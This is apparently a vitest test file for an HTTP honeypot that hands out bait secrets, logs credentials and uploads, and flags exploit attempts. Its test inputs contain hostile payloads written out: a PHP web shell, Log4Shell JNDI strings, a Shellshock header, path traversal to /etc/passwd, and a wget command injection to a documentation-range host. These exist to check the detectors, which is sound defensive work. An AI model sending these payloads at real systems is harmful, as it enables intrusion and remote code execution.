import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { feed, type ListeningDecoy, listenWith, testIdentity } from '../../testing/decoy-harness.js'
import { assertAnyStream } from '../../testing/decoy-properties.js'
import { silent } from '../../testing/silent.js'
import { until } from '../../testing/until.js'
import { baitSecretsOf } from '../bait/bait-secrets.js'
import { readBaitFile } from './bait-file.js'
import { authorizationOf, bodyCredentials } from './credentials.js'
import { createHttpDecoy } from './decoy.js'
import { exploitsIn } from './exploits.js'
import { httpProfileOf } from './http-profile.js'
import { multipartOf } from './uploads.js'

const run = promisify(execFile)
const CURL = '/usr/bin/curl'
const GIT = '/usr/bin/git'
const secrets = baitSecretsOf(testIdentity())

let listening: ListeningDecoy | null = null
let directory = ''
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'eviltwin-http-'))
})
afterEach(async () => {
  await listening?.stop()
  listening = null
  rmSync(directory, { recursive: true, force: true })
})

const url = (path: string) => `http://127.0.0.1:${listening?.port}${path}`
const ofType = (type: string) => listening?.records().filter(({ event_type }) => event_type === type) ?? []

describe.skipIf(!existsSync(CURL))('curl', () => {
  async function curl(...parameters: string[]): Promise<string> {
    const { stdout } = await run(CURL, ['-s', '--path-as-is', '--max-time', '30', ...parameters])
    return stdout
  }

  test('finds secrets, which are recognised when they are used', async () => {
    listening = await listenWith(createHttpDecoy)
    expect(await curl(url('/.env'))).toContain(secrets.databasePassword)
    expect(await curl(url('/backup.sql'))).toContain(secrets.adminPassword)
    expect(await curl(url('/actuator/env'))).toContain(secrets.awsSecretKey)
    await curl('-d', `log=admin&pwd=${secrets.adminPassword}`, url('/wp-login.php'))
    expect(ofType('login_attempt')).toEqual([
      {
        event_type: 'login_attempt',
        action: 'http.login.wordpress',
        outcome: 'success',
        username: 'admin',
        password: secrets.adminPassword,
        url: '/wp-login.php',
        details: { by: 'form', bait: ['adminPassword'] },
      },
    ])
    expect(listening.records()[0]?.details?.['shown']).toBe('env')
  })

  test.each([
    ['/wp-login.php', ['-d', 'log=joe&pwd=unlikely'], 'wordpress', 'form'],
    ['/phpmyadmin/', ['-d', 'pma_username=joe&pma_password=unlikely'], 'phpmyadmin', 'form'],
    ['/jenkins/j_spring_security_check', ['-d', 'j_username=joe&j_password=unlikely'], 'jenkins', 'form'],
    ['/manager/html', ['-u', 'joe:unlikely'], 'tomcat', 'basic'],
    ['/remote/logincheck', ['-d', 'username=joe&credential=unlikely'], 'vpn', 'form'],
    ['/admin/', ['-F', 'username=joe', '-F', 'password=unlikely'], 'router', 'form'],
    [
      '/api/login',
      ['-H', 'content-type: application/json', '-d', '{"auth":{"user":"joe","pass":"unlikely"}}'],
      'other',
      'json',
    ],
    ['/cgi?username=joe&password=unlikely', [], 'other', 'query'],
  ])('credentials that are sent to %s', async (path, parameters, page, by) => {
    listening = await listenWith(createHttpDecoy)
    await curl(...parameters, url(path))
    expect(ofType('login_attempt')).toEqual([
      expect.objectContaining({
        action: `http.login.${page}`,
        outcome: 'failure',
        username: 'joe',
        password: 'unlikely',
        details: { by },
      }),
    ])
    expect(listening.failures).toEqual([])
  })

  test('a login page is shown before it is used', async () => {
    listening = await listenWith(createHttpDecoy)
    expect(await curl(url('/wp-login.php'))).toContain('name="pwd"')
    expect(await curl('-i', url('/manager/html'))).toMatch(
      /^HTTP\/1\.1 401 [\s\S]*WWW-Authenticate: Basic realm=/,
    )
    expect(ofType('login_attempt')).toEqual([])
  })

  test('files of a form and of PUT are kept', async () => {
    listening = await listenWith(createHttpDecoy)
    writeFileSync(join(directory, 'shell.php'), '<?php system($_GET[0]);')
    await curl('-F', `file=@${join(directory, 'shell.php')}`, url('/upload'))
    await curl('-T', join(directory, 'shell.php'), url('/webdav/x.php'))
    const file_sha256 = createHash('sha256').update('<?php system($_GET[0]);').digest('hex')
    expect(listening.files().map(({ name }) => name)).toEqual(['shell.php', 'x.php'])
    expect(ofType('file_upload').map((record) => record.file_sha256)).toEqual([file_sha256, file_sha256])
    expect(ofType('exploit').map(({ action }) => action)).toContain('http.web_shell')
  })

  test('a large body is cut, and its record says so', async () => {
    listening = await listenWith(createHttpDecoy)
    writeFileSync(join(directory, 'large'), Buffer.alloc(9 * 1024 * 1024, 'x'))
    await curl('-T', join(directory, 'large'), url('/large'))
    expect(listening.files()[0]?.content).toHaveLength(8 * 1024 * 1024)
    expect(ofType('file_upload')[0]?.details).toMatchObject({ is_cut: true })
  })

  test('other hosts are recorded, and nothing is connected to', async () => {
    listening = await listenWith(createHttpDecoy)
    const other = await listenWith(createHttpDecoy)
    const target = `127.0.0.1:${other.port}`
    await curl('-x', url(''), `http://${target}/ip`)
    await curl('-x', url(''), '--proxytunnel', `http://${target}/ip`).catch(() => {})
    expect(ofType('proxy_request').map((record) => record.url)).toEqual([
      `http://${target}/ip`,
      `tcp://${target}`,
    ])
    expect(other.sessions).toEqual([])
    await other.stop()
  })

  test('errors look like those of the imitated server', async () => {
    listening = await listenWith(createHttpDecoy)
    const { server } = httpProfileOf(testIdentity())
    const answer = await curl('-i', url('/no-such-page'))
    expect(answer).toMatch(/^HTTP\/1\.1 404 Not Found/)
    expect(answer).toContain(`Server: ${server}`)
    expect(answer).not.toContain('no-such-page')
  })

  test('pages of a file are shown, before those that are built in', async () => {
    const file = join(directory, 'bait.yaml')
    writeFileSync(
      file,
      'pages:\n  - { path: /secret.txt, name: secret, content_type: text/plain, body: hello }\n  - { path: /.env, status: 403 }\n',
    )
    listening = await listenWith(createHttpDecoy, { baitFile: file })
    expect(await curl(url('/secret.txt'))).toBe('hello')
    expect(await curl('-o', '/dev/null', '-w', '%{http_code}', url('/.env'))).toBe('403')
    expect(listening.records()[0]?.details).toMatchObject({ shown: 'secret' })
  })
})

test.skipIf(!existsSync(GIT))('git clones what is exposed of a repository', async () => {
  listening = await listenWith(createHttpDecoy)
  const environment = { ...process.env, HOME: directory, GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' }
  await run(GIT, ['clone', '-q', url('/.git/'), join(directory, 'copy')], { env: environment })
  expect(readFileSync(join(directory, 'copy', 'config.php'), 'utf8')).toContain(secrets.databasePassword)
})

describe('a web server that is none', () => {
  const decoy = createHttpDecoy({
    identity: testIdentity(),
    log: silent('decoy'),
    now: () => 1_700_000_000_000,
  })
  const say = (text: string) => feed(decoy, [Buffer.from(text, 'latin1')])

  test.each([
    ['http.log4shell', 'GET /?x=$\x7bjndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n\r\n'],
    [
      'http.log4shell',
      'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: $\x7b$\x7blower:j}ndi:ldap://203.0.113.9/a}\r\n\r\n',
    ],
    ['http.shellshock', 'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n'],
    ['http.path_traversal', 'GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n'],
    ['http.path_traversal', 'GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: a\r\n\r\n'],
    ['http.cgi_bin', 'GET /cgi-bin/test HTTP/1.1\r\nHost: a\r\n\r\n'],
    ['http.php_input', 'GET /?page=php://input HTTP/1.1\r\nHost: a\r\n\r\n'],
    ['http.thinkphp', 'GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1\r\nHost: a\r\n\r\n'],
    ['http.spring4shell', 'GET /?class.module.classLoader.resources.context=1 HTTP/1.1\r\nHost: a\r\n\r\n'],
    [
      'http.confluence_ognl',
      'GET /%24%7B%28%23a%3D%40java.lang.Runtime%40x%29%7D/ HTTP/1.1\r\nHost: a\r\n\r\n',
    ],
    [
      'http.phpunit',
      'POST /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n',
    ],
    ['http.command_injection', 'GET /x?cmd=;wget+http://203.0.113.9/a HTTP/1.1\r\nHost: a\r\n\r\n'],
  ])('%s', async (action, request) => {
    const { session } = await say(request)
    const exploits = session.records.filter(({ event_type }) => event_type === 'exploit')
    expect(exploits.map((record) => record.action)).toContain(action)
  })

  test('an ordinary request is no exploit', () => {
    expect(exploitsIn({ url: '/index.html?page=2', headers: 'accept: */*', body: 'hello' })).toEqual([])
  })

  test('patterns take no time that grows with hostile text', () => {
    for (const text of ['$\x7b', '$\x7b}', '() {', '%2e', 'union ', '; ', "' or ", '#', '.'].map((part) =>
      part.repeat(50_000),
    ))
      expect(exploitsIn({ url: text, headers: text, body: text }).length).toBeLessThanOrEqual(4)
  })

  test.each([
    ['bytes that are no request', '\x16\x03\x01\x02\x00\x01\x00'],
    ['a header that is too long', `GET / HTTP/1.1\r\nHost: a\r\nX: ${'a'.repeat(20_000)}\r\n\r\n`],
    [
      'two lengths',
      'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    ],
  ])('%s', async (_name, request) => {
    const { session, answer } = await say(request)
    expect(session.records.map(({ action }) => action)).toContain('http.invalid')
    expect(String(answer)).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/)
  })

  test('a request is answered while the next ones wait, and there is an end to them', async () => {
    const { session } = await say('GET /robots.txt HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(400))
    const answered = session.records.filter(({ action }) => action === 'http.get')
    expect(answered.length).toBeGreaterThanOrEqual(200)
    expect(session.records.length).toBeLessThanOrEqual(1_001)
  })

  test('a body that the client does not finish is read as far as it arrived', async () => {
    const { session } = await say('PUT /a HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nhalf')
    expect(session.files.map(({ content }) => String(content))).toEqual(['half'])
  })

  test('a connection that ended within a request leaves no timer', async () => {
    listening = await listenWith(createHttpDecoy)
    const timers = () => process.getActiveResourcesInfo().filter((kind) => kind === 'Timeout').length
    const before = timers()
    const connections = 40
    for (let n = 0; n < connections; n += 1) {
      const socket = connect(listening.port, '127.0.0.1')
      socket.resume()
      socket.end('POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nhalf of it')
      await once(socket, 'close')
    }
    await until(() => listening?.open() === 0)
    // Those of the test itself come and go.
    expect(timers() - before).toBeLessThan(connections / 2)
  })

  test('installations present themselves differently', () => {
    const servers = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'].map(
      (seed) => httpProfileOf(testIdentity(seed)).server,
    )
    expect(new Set(servers).size).toBeGreaterThan(4)
    expect(secrets.databasePassword).not.toBe(baitSecretsOf(testIdentity('two')).databasePassword)
  })

  test('whatever the bytes are, and however they arrive, the records are the same', async () => {
    const parts = [
      'GET / HTTP/1.1\r\nHost: a\r\n\r\n',
      'GET /.env HTTP/1.0\r\n\r\n',
      'POST /wp-login.php HTTP/1.1\r\nHost: a\r\nContent-Length: 11\r\n\r\nlog=a&pwd=b',
      'POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n',
      'PUT /a HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc',
      'GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n',
    ]
    // Of what is no HTTP, the record has the chunk in which it was found.
    await assertAnyStream(createHttpDecoy, parts, {
      comparable: (record) => (record.action === 'http.invalid' ? record.action : record),
    })
  })
})

describe('credentials in a request', () => {
  test.each([
    ['Basic', undefined],
    ['Basic !!', null],
    [`Basic ${Buffer.from('a:b:c').toString('base64')}`, { username: 'a', password: 'b:c', by: 'basic' }],
    ['Bearer abc', { username: '', password: 'abc', by: 'bearer' }],
  ])('%s', (header, expected) => {
    expect(authorizationOf(header)).toEqual(expected ?? null)
  })

  test.each(['{', '[]', 'null', '{"password":1}', '{"a":{"b":{"c":{"d":{"password":"x"}}}}}'])(
    'none in %s',
    (body) => {
      expect(bodyCredentials('application/json', body)).toBeNull()
    },
  )
})

describe('multipart/form-data', () => {
  const TYPE = 'multipart/form-data; boundary=x'
  const part = (headers: string, text: string) =>
    `--x\r\nContent-Disposition: form-data; ${headers}\r\n\r\n${text}\r\n`
  const read = (text: string) => multipartOf(TYPE, Buffer.from(text))

  test('files and fields', () => {
    expect(
      read(
        `${part('name="user"', 'joe')}${part('name="pass"', 's')}${part('name="f"; filename="a.txt"', 'hello')}--x--\r\n`,
      ),
    ).toEqual({
      files: [{ name: 'a.txt', content: Buffer.from('hello') }],
      credentials: { username: 'joe', password: 's', by: 'form' },
    })
    expect(multipartOf('text/plain', Buffer.from('x'))).toBeNull()
    expect(multipartOf('multipart/form-data; boundary="x"', Buffer.from('--x--'))).toEqual({
      files: [],
      credentials: null,
    })
  })

  test('a part without an end is read as far as it arrived, and what is no part is passed over', () => {
    const { files } = read(`--x\r\nnothing${part('name="f"; filename=""', 'he').slice(0, -2)}`) ?? {
      files: [],
    }
    expect(files).toEqual([{ name: 'unnamed', content: Buffer.from('he') }])
  })

  test('at most sixteen files of sixty-four parts, with headers of 4 KiB', () => {
    expect(read(part('name="f"; filename="a"', 'b').repeat(100))?.files).toHaveLength(16)
    expect(read(part(`name="f"; filename="a"; x="${'x'.repeat(5_000)}"`, 'b'))?.files).toEqual([])
    expect(read(`${part('name="a"', 'b').repeat(64)}${part('name="f"; filename="a"', 'b')}`)?.files).toEqual(
      [],
    )
  })
})

describe('a file of bait', () => {
  test.each([
    ['pages: 1', /pages/],
    ['pages: [{ path: x }]', /path/],
    ['pages: [{ path: /x, status: 99 }]', /status/],
    ['pages: [{ path: /x, content_type: "a\\r\\nb: c" }]', /media type/],
    ['pages: [{ path: /x, other: 1 }]', /other/],
    ['{', /cannot be read/],
  ])('%s is refused', (text, message) => {
    const file = join(directory, 'bait.yaml')
    writeFileSync(file, text)
    expect(() => readBaitFile(file)).toThrow(message)
  })

  test('that is not there, or too large, is refused', () => {
    expect(() => readBaitFile(join(directory, 'none'))).toThrow(/cannot be read/)
    writeFileSync(join(directory, 'large'), Buffer.alloc(1_048_577, ' '))
    expect(() => readBaitFile(join(directory, 'large'))).toThrow(/larger than/)
  })
})
